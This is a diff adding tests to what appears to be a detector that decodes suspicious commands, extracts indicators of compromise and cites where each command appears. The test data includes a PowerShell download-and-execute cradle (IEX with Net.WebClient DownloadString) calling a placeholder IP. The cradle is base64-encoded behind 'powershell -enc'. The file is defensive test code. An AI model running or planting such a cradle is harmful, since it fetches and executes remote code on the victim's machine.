@@ -33,6 +33,27 @@ test.each([
   expect(classified.signs[0]?.rule).toMatch(/^command\//);
 });
 
+const HIDDEN = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/stage/a.ps1')";
+
+test('whom a hidden command speaks to is told, with the path, and cited where the command stands', () => {
+  const origin = { source: 'note.txt', locator: 'line 3' };
+  const { findings, iocs } = checkCommands([`powershell -enc ${utf16(HIDDEN)}`], literalContent(), [origin]);
+  expect(iocs).toEqual([
+    { type: 'ip', value: '203.0.113.9' },
+    { type: 'url', value: 'http://203.0.113.9/stage/a.ps1' },
+  ]);
+  expect(findings[0]?.evidence).toMatchObject([
+    origin,
+    { source: 'note.txt', locator: 'line 3 after -enc: base64, UTF-16LE', excerpt: HIDDEN },
+  ]);
+});
+
+test('of commands without weight, and of hosts inside, no indicator is told', () => {
+  const inside = HIDDEN.replaceAll('203.0.113.9', '10.0.0.9');
+  const { iocs } = checkCommands(['ping www.example.com', `powershell -enc ${utf16(inside)}`], literalContent());
+  expect(iocs).toEqual([]);
+});
+
 test.each(['notepad.exe report.txt', 'C:\\Program Files\\Vendor\\app.exe --start', 'git commit -m x', ''])(
   '%j says nothing, and that is said',
   (command) => {
